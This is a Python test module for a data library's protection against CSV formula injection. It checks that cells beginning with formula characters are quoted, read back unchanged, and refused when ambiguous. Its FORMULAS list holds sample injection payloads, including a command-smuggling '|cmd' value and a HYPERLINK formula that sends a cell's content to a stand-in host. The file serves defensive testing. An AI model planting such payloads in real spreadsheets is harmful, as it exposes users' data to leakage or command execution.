"""No cell of a file that people open in a spreadsheet is run as a formula, and each is read back as it was."""

from __future__ import annotations

import csv
import io

import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from quorate.data import check_classes, encode_labels, read_data
from quorate.data.cell_text import as_cell, csv_text, from_cell
from quorate.errors import DataRefused, InvalidParameter

DANGEROUS = tuple("=+-@\t\r\n")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x?"&A1)',
    "=",
    "+",
    "-",
    "@",
    "'=1",
)

texts = st.text(st.sampled_from("=+-@'\t\r\n1.e a,\""), max_size=8)


def is_a_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text == text.strip()


@given(text=texts)
def test_every_cell_is_harmless_and_read_back(text: str) -> None:
    cell = as_cell(text)
    assert not cell.startswith(DANGEROUS) or is_a_number(cell)
    assert from_cell(cell) == text
    assert as_cell(text) == text or cell == "'" + text


@given(one=texts, other=texts)
def test_two_texts_never_become_one(one: str, other: str) -> None:
    assert (as_cell(one) == as_cell(other)) == (one == other)


@pytest.mark.default_cases(4)
@pytest.mark.parametrize("value", [-1, 0.5, -2.5e-3, True, None, "-1", "+1.5e3", "yes", "<=50K", ">50K", "it's", ""])
def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
    assert as_cell(value) == value


@given(rows=st.lists(st.tuples(st.integers(-9, 9), texts), max_size=5), name=texts)
def test_a_table_is_read_back_by_any_reader_of_csv(rows: list[tuple[int, str]], name: str) -> None:
    read = list(csv.reader(io.StringIO(csv_text(["row", name], rows), newline="")))
    assert [[from_cell(cell) for cell in line] for line in read] == [["row", name], *([str(n), t] for n, t in rows)]


@pytest.mark.default_cases(3)
@pytest.mark.parametrize("formula", [each for each in FORMULAS if each.strip()])
def test_a_file_of_labels_with_such_a_class_is_read_by_our_own_reader(formula: str, tmp_path) -> None:
    classes = [formula, "no"]
    path = tmp_path / "labels.csv"
    path.write_text(
        csv_text(["x", "label"], [[0.5, formula], [1.5, "no"], [2.5, formula]]), encoding="utf-8", newline=""
    )
    table = read_data(path, label="label")
    assert encode_labels(table.y, classes).tolist() == [0, 1, 0]
    assert encode_labels(np.array([formula, "no"], dtype=object), classes).tolist() == [0, 1]


def test_labels_that_are_none_of_the_classes_are_still_refused() -> None:
    with pytest.raises(DataRefused, match="a label outside classes"):
        encode_labels(["'yes"], ["yes", "no"])
    with pytest.raises(DataRefused):
        encode_labels(["=yes"], ["'=yes", "no"])


def test_two_classes_that_would_be_written_alike_are_refused() -> None:
    with pytest.raises(InvalidParameter, match="would be one in a file of labels"):
        check_classes(["=1", "'=1", "no"])
    assert check_classes(["+", "-"]) == ("+", "-")
    assert check_classes([-1, 1]) == (-1, 1)


def test_that_test_catches_a_file_without_quotes(tmp_path) -> None:
    """polars, too, would have taken the cell as it is: nothing else neutralises it."""
    text = pl.DataFrame({"label": list(FORMULAS)}).write_csv()
    assert any(cell.startswith(DANGEROUS) for (cell,) in csv.reader(io.StringIO(text, newline="")))
